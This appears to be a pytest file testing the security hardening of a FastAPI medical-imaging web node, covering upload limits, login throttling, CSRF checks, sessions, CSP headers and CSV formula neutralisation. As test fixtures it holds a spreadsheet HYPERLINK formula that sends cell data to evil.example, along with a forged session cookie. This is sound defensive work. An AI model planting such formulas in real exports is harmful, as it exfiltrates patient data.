"""The hardened web surface: uploads authenticated before their body and cut off while streaming,
throttled token guesses, CSRF origin checks, server-side sessions, security headers and CSP,
and CSV cells that a spreadsheet cannot run as formulas."""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import tempfile
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import httpx
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select, update
from webnode import ADMIN, BROWSER, READER, make_store, node_settings, processed_study

from dxnode.config import Settings
from dxnode.queries import spreadsheet_safe
from dxnode.store import Audit, Store, Study, WebSession
from dxnode.web.app import create_app
from dxnode.web.server import WebServer
from dxnode.web.services import services_of

H_ADMIN = {"Authorization": f"Bearer {ADMIN}"}
H_READ = {"Authorization": f"Bearer {READER}"}
HOSTILE_PID = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
HOSTILE_ACCESSION = "@SUM(1+1)"
EVIL = "http://evil.example"


@pytest.fixture(scope="module")
def node(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Settings, Store, str]]:
    tmp = tmp_path_factory.mktemp("webhard")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("TORCH_HOME", str(tmp / "torch-home"))  # no ImageNet file: the demo model
        settings = node_settings(tmp, max_upload_mb=1, session_secret="hardening-secret")
        store = make_store(settings)
        uid = processed_study(store, settings, patient_id=HOSTILE_PID, accession=HOSTILE_ACCESSION)
        yield settings, store, uid
    store.dispose()


@pytest.fixture
def system_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The temporary folder Starlette spools uploads to, empty, to see what a request leaves there."""
    folder = tmp_path / "system-tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def with_web(settings: Settings, **web: object) -> Settings:
    return settings.model_copy(update={"web": settings.web.model_copy(update=web)})


def audits(store: Store, action: str) -> list[Audit]:
    with store.session() as s:
        return list(s.scalars(select(Audit).where(Audit.action == action).order_by(Audit.id)))


def browser_login(settings: Settings, store: Store, token: str) -> TestClient:
    client = TestClient(create_app(settings, store), headers=BROWSER)
    assert client.post("/login", data={"token": token}, follow_redirects=False).status_code == 303
    return client


class ChunkedUpload:
    """A raw HTTP/1.1 chunked POST to /api/predict (no Content-Length), sent from a thread while the
    caller waits for the answer: shows whether the server answers before reading the whole body."""

    def __init__(self, port: int, headers: dict[str, str], total: int, chunk: int = 256 * 1024) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=20)
        head = "".join(f"{k}: {v}\r\n" for k, v in headers.items())
        self.sock.sendall(
            b"POST /api/predict HTTP/1.1\r\nHost: 127.0.0.1\r\nTransfer-Encoding: chunked\r\n"
            + head.encode()
            + b"Content-Type: multipart/form-data; boundary=b\r\n\r\n"
        )
        self.total, self.chunk, self.sent, self.finished = total, chunk, 0, False
        self.thread = threading.Thread(target=self._send, daemon=True)
        self.thread.start()

    def _send(self) -> None:
        envelope = b'--b\r\nContent-Disposition: form-data; name="file"; filename="big.dcm"\r\n\r\n'
        try:
            self.sock.sendall(b"%x\r\n%s\r\n" % (len(envelope), envelope))
            while self.sent < self.total:
                self.sock.sendall(b"%x\r\n%s\r\n" % (self.chunk, b"\0" * self.chunk))
                self.sent += self.chunk
            closing = b"\r\n--b--\r\n"
            self.sock.sendall(b"%x\r\n%s\r\n0\r\n\r\n" % (len(closing), closing))
            self.finished = True
        except OSError:
            pass  # the server closed the connection: what a refusal does

    def reply(self, timeout: float = 15) -> tuple[int, dict[str, object], bool]:
        """Status, JSON body, and whether the whole body had been sent when the answer came."""
        self.sock.settimeout(timeout)
        data = b""
        while b"\r\n\r\n" not in data:
            data += self.sock.recv(65536)
        finished = self.finished
        head, _, rest = data.partition(b"\r\n\r\n")
        found = re.search(rb"(?i)content-length: (\d+)", head)
        assert found, data[:300]
        length = int(found.group(1))
        while len(rest) < length:
            more = self.sock.recv(65536)
            if not more:
                break
            rest += more
        self.sock.close()
        return int(head.split()[1]), json.loads(rest[:length]), finished


@pytest.fixture
def served(node) -> Iterator[tuple[WebServer, Settings, Store]]:  # type: ignore[no-untyped-def]
    settings, store, _ = node
    server = WebServer(create_app(settings, store), "127.0.0.1", 0)
    server.start()
    yield server, settings, store
    server.stop()


def test_an_unauthenticated_chunked_upload_is_refused_before_its_body_is_read(served, system_tmp: Path) -> None:  # type: ignore[no-untyped-def]
    server, settings, store = served
    client = TestClient(create_app(settings, store))
    forged_cookie = "dxnode_session=" + browser_login(settings, store, READER).cookies["dxnode_session"][:-4] + "AAAA"
    before = len(audits(store, "api.predict"))
    for headers in [
        {},
        {"Authorization": "Bearer wrong-token"},
        {"Cookie": forged_cookie, "Origin": "http://127.0.0.1"},
    ]:
        upload = ChunkedUpload(server.port, headers, total=64 * 1024 * 1024)
        status, body, finished = upload.reply()
        assert status == 401 and body["detail"] == "missing or invalid token", (headers, body)
        assert not finished  # answered while the 64 MB were still coming
        assert not list(system_tmp.iterdir()), headers  # and none of it went to disk
    assert len(audits(store, "api.predict")) == before
    assert client.get("/healthz").status_code == 200


def test_an_authenticated_chunked_upload_is_cut_off_at_max_upload_mb(served, system_tmp: Path) -> None:  # type: ignore[no-untyped-def]
    server, _, store = served
    before = len(audits(store, "api.predict"))
    upload = ChunkedUpload(server.port, H_READ, total=64 * 1024 * 1024)
    status, body, finished = upload.reply()
    assert status == 413 and "max_upload_mb = 1" in str(body["detail"])
    assert not finished  # counted while streaming: 1 MB allowed, 64 MB offered
    upload.thread.join(10)
    deadline = time.monotonic() + 5
    while list(system_tmp.rglob("*")) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not list(system_tmp.rglob("*"))  # the spooled part is deleted
    assert len(audits(store, "api.predict")) == before  # the handler never ran
    # A chunked upload under the limit still reaches the handler (and is refused there: no image).
    small = ChunkedUpload(server.port, H_READ, total=256 * 1024)
    status, body, finished = small.reply()
    assert status == 415 and finished


def test_login_and_logout_forms_are_bounded(node) -> None:  # type: ignore[no-untyped-def]
    settings, store, _ = node
    client = TestClient(create_app(settings, store), headers=BROWSER)
    r = client.post(
        "/login",
        content=b"token=" + b"x" * (1024 * 1024),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert r.status_code == 413


def test_wrong_tokens_are_throttled_per_address_with_a_growing_delay(node) -> None:  # type: ignore[no-untyped-def]
    settings, store, _ = node
    app = create_app(with_web(settings, login_free_attempts=3, login_delay_s=10, login_max_delay_s=25), store)
    now = [1000.0]
    services_of(app).login_throttle.clock = lambda: now[0]  # the throttle's clock, moved by hand
    client = TestClient(app, headers=BROWSER)
    throttled_before = len(audits(store, "web.login_throttled"))
    for _ in range(3):
        assert client.post("/login", data={"token": "guess"}).status_code == 401
    # The fourth wrong guess waits; the right token never does (issue 24: the guesser must not lock out the admin).
    r = client.post("/login", data={"token": "guess-4"}, follow_redirects=False)
    assert r.status_code == 429 and r.headers["retry-after"] == "10" and "Too many wrong tokens" in r.text
    assert "dxnode_session" not in r.cookies
    rows = audits(store, "web.login_throttled")
    assert len(rows) == throttled_before + 1 and rows[-1].source == "testclient" and "guess-4" not in rows[-1].detail
    assert client.post("/login", data={"token": ADMIN}, follow_redirects=False).status_code == 303
    now[0] += 9
    assert client.post("/login", data={"token": "guess"}).status_code == 429
    now[0] += 1
    assert client.post("/login", data={"token": "guess"}).status_code == 401  # looked at again, wrong again
    r = client.post("/login", data={"token": "guess"})
    assert r.status_code == 429 and r.headers["retry-after"] == "20"  # the delay doubled
    now[0] += 20
    assert client.post("/login", data={"token": "guess"}).status_code == 401
    assert client.post("/login", data={"token": "guess"}).headers["retry-after"] == "25"  # at most login_max_delay_s
    # Other addresses are not affected, and failures older than an hour no longer count.
    other = TestClient(app, headers=BROWSER, client=("192.0.2.7", 50000))
    assert other.post("/login", data={"token": "guess"}, follow_redirects=False).status_code == 401
    now[0] += 3600
    assert client.post("/login", data={"token": "guess"}, follow_redirects=False).status_code == 401


def test_wrong_bearer_tokens_count_as_failed_logins(node) -> None:  # type: ignore[no-untyped-def]
    settings, store, _ = node
    app = create_app(with_web(settings, login_free_attempts=2, login_delay_s=30), store)
    client = TestClient(app)
    failed_before = len(audits(store, "web.token_failed"))
    for _ in range(2):
        assert client.get("/api/studies", headers={"Authorization": "Bearer guess"}).status_code == 401
    assert len(audits(store, "web.token_failed")) == failed_before + 2
    r = client.get("/api/studies", headers={"Authorization": "Bearer guess"})
    assert r.status_code == 429 and 1 <= int(r.headers["retry-after"]) <= 30
    assert client.post("/login", data={"token": "guess"}).status_code == 429  # one budget per address
    assert audits(store, "web.token_throttled")[-1].source == "testclient"
    r = client.post("/api/predict", files={"file": ("a.png", b"x")}, headers={"Authorization": "Bearer guess"})
    assert r.status_code == 429  # refused before the upload is read, like a 401
    assert client.get("/api/studies", headers=H_READ).status_code == 200  # a valid token is never throttled


def test_parallel_guesses_get_no_more_than_the_free_attempts(node) -> None:  # type: ignore[no-untyped-def]
    settings, store, _ = node
    server = WebServer(create_app(with_web(settings, login_free_attempts=3, login_delay_s=60), store), "127.0.0.1", 0)
    server.start()
    try:
        with ThreadPoolExecutor(20) as pool:
            codes = list(
                pool.map(
                    lambda i: (
                        httpx.get(
                            server.url + "api/studies", headers={"Authorization": f"Bearer guess-{i}"}, timeout=30
                        ).status_code
                    ),
                    range(20),
                )
            )
    finally:
        server.stop()
    assert sorted(codes) == [401] * 3 + [429] * 17


def test_cookie_requests_from_another_site_are_refused(node) -> None:  # type: ignore[no-untyped-def]
    settings, store, uid = node
    admin = browser_login(settings, store, ADMIN)
    cookie = {"Cookie": f"dxnode_session={admin.cookies['dxnode_session']}"}
    api = TestClient(create_app(settings, store))  # no default Origin

    def ignored() -> bool:
        with store.session() as s:
            return bool(s.scalar(select(Study.ignored).where(Study.study_instance_uid == uid)))

    ignore = f"/api/studies/{uid}/ignore?ignored=true"
    for extra in [{"Origin": EVIL}, {"Origin": "null"}, {"Referer": f"{EVIL}/page"}, {}]:
        r = api.post(ignore, headers={**cookie, **extra})
        assert r.status_code == 403 and "CSRF" in r.json()["detail"], extra
        assert not ignored()
    assert api.post("/logout", headers={**cookie, "Origin": EVIL}).status_code == 403
    assert admin.get("/api/studies").status_code == 200  # that logout did not happen
    assert api.post("/login", data={"token": READER}, headers={"Origin": EVIL}).status_code == 403
    # The node's own pages (Origin, or Referer alone) may; so may bearer-token scripts from anywhere.
    assert api.post(ignore, headers={**cookie, "Referer": "http://testserver/studies/x"}).status_code == 200
    assert (
        api.post(ignore.replace("true", "false"), headers={**cookie, "Origin": "http://testserver"}).status_code == 200
    )
    assert api.post(ignore, headers={**H_ADMIN, "Origin": EVIL}).status_code == 200
    assert api.post(ignore.replace("true", "false"), headers=H_ADMIN).json()["ignored"] is False
    # Behind a proxy that rewrites Host, the public origin is configured.
    proxied = TestClient(create_app(with_web(settings, trusted_origins=["https://dxnode.example.org"]), store))
    r = proxied.post(ignore.replace("true", "false"), headers={**cookie, "Origin": "https://dxnode.example.org"})
    assert r.status_code == 200


@pytest.fixture
def bare(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, db_url: str) -> Iterator[tuple[Settings, Store]]:
    """A node without studies on SQLite and PostgreSQL (sessions need no study)."""
    monkeypatch.setenv("TORCH_HOME", str(tmp_path / "torch-home"))
    settings = node_settings(tmp_path, db_url, session_secret="bare-secret", session_hours=2)
    store = make_store(settings)
    yield settings, store
    store.dispose()


def test_logout_revokes_the_session_and_sessions_expire(bare) -> None:  # type: ignore[no-untyped-def]
    settings, store = bare
    client = TestClient(create_app(settings, store), headers=BROWSER)
    r = client.post("/login", data={"token": ADMIN}, follow_redirects=False)
    assert "max-age=7200" in r.headers["set-cookie"].lower()  # [web] session_hours = 2
    kept = client.cookies["dxnode_session"]
    assert client.get("/api/studies").status_code == 200
    assert client.post("/logout", follow_redirects=False).status_code == 303
    # Someone who kept the old cookie gets nothing, admin POSTs included.
    replay = TestClient(create_app(settings, store), headers=BROWSER, cookies={"dxnode_session": kept})
    assert replay.get("/api/studies").status_code == 401
    assert replay.get("/", follow_redirects=False).headers["location"] == "/login"
    assert replay.post("/api/outbox/1/resend").status_code == 401
    assert audits(store, "web.logout")[-1].actor == "alice"
    # A session past its lifetime is refused by the server, whatever the browser keeps.
    client.post("/login", data={"token": READER}, follow_redirects=False)
    assert client.get("/api/studies").status_code == 200
    with store.session() as s:
        assert s.scalar(select(WebSession.token_name)) == "bob"  # the logged-out one is gone
        s.execute(update(WebSession).values(expires_at=WebSession.created_at))
    assert client.get("/api/studies").status_code == 401
    with store.session() as s:
        key_hashes = list(s.scalars(select(WebSession.key_hash)))
    assert client.cookies["dxnode_session"] not in json.dumps(key_hashes)  # the table keeps hashes only


def test_security_headers_on_pages_api_and_refusals(node) -> None:  # type: ignore[no-untyped-def]
    settings, store, uid = node
    browser = browser_login(settings, store, READER)
    api = TestClient(create_app(settings, store))
    answers = {
        "login page": api.get("/login"),
        "dashboard": browser.get("/"),
        "study page": browser.get(f"/studies/{uid}"),
        "upload page": browser.get("/upload"),
        "dashboard.json": browser.get("/dashboard.json"),
        "api": api.get("/api/studies", headers=H_READ),
        "csv": api.get("/api/results.csv", headers=H_READ),
        "png": api.get(
            f"/api/instances/{browser.get(f'/api/studies/{uid}').json()['findings'][0]['source_sop_instance_uid']}.png",
            headers=H_READ,
        ),
        "401": api.get("/api/studies"),
        "413": api.post("/api/predict", headers={**H_READ, "Content-Length": str(10**9)}),
        "csrf 403": api.post(f"/api/studies/{uid}/requeue", headers={"Origin": EVIL, "Cookie": "dxnode_session=x"}),
    }
    for what, r in answers.items():
        csp = r.headers.get("content-security-policy", "")
        directives = dict([*d.strip().split(" ", 1), ""][:2] for d in csp.split(";") if d.strip())
        assert directives.get("script-src") == "'self'" and "unsafe-inline" not in csp, (what, csp)
        assert directives.get("frame-ancestors") == "'none'" and r.headers.get("x-frame-options") == "DENY", what
        assert directives.get("default-src") == "'none'" and directives.get("object-src", "'none'") == "'none'", what
        assert r.headers.get("x-content-type-options") == "nosniff", what
        assert r.headers.get("referrer-policy") == "same-origin", what
        assert r.headers.get("cache-control") == "no-store", what
    static = api.get("/static/dxnode.css")
    assert static.headers["x-content-type-options"] == "nosniff" and "no-store" not in static.headers.get(
        "cache-control", ""
    )
    for script in ("dashboard.js", "study.js", "upload.js"):
        assert api.get(f"/static/{script}").headers["content-type"].split(";")[0] in (
            "text/javascript",
            "application/javascript",
        )


def test_pages_have_no_inline_script_handler_or_style(node) -> None:  # type: ignore[no-untyped-def]
    """What the CSP would block: inline <script>, on...= handlers, style= attributes and <style> blocks."""
    settings, store, uid = node
    admin = browser_login(settings, store, ADMIN)
    pages = {p: admin.get(p).text for p in ["/", f"/studies/{uid}", "/results", "/upload"]}
    pages["/login"] = TestClient(create_app(settings, store)).get("/login").text
    for path, html in pages.items():
        assert "<html" in html, path
        for tag in re.findall(r"<script\b[^>]*>", html, re.I):
            assert re.search(r'\bsrc="/static/[\w.]+\.js"', tag), (path, tag)
        assert not any(body.strip() for body in re.findall(r"<script\b[^>]*>(.*?)</script>", html, re.I | re.S)), path
        assert not re.search(r"\son[a-z]+\s*=", html, re.I), path
        assert not re.search(r"\sstyle\s*=|<style\b", html, re.I), path
        assert "javascript:" not in html.lower(), path


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_spreadsheet_formula_starts_are_neutralised(first: str) -> None:
    assert spreadsheet_safe(first + "1+1") == "'" + first + "1+1"
    assert spreadsheet_safe("PID" + first) == "PID" + first and spreadsheet_safe(-0.5) == -0.5


def test_results_csv_cannot_inject_formulas(node) -> None:  # type: ignore[no-untyped-def]
    settings, store, _ = node
    client = TestClient(create_app(settings, store))
    rows = list(csv.DictReader(io.StringIO(client.get("/api/results.csv", headers=H_READ).text)))
    assert rows and all(r["patient_id"] == "'" + HOSTILE_PID for r in rows)
    assert all(r["accession_number"] == "'" + HOSTILE_ACCESSION for r in rows)
    assert all(0 <= float(r["probability"]) <= 1 for r in rows)  # numbers stay numbers
    assert client.get("/api/results", headers=H_READ).json()[0]["patient_id"] == HOSTILE_PID  # JSON is unchanged
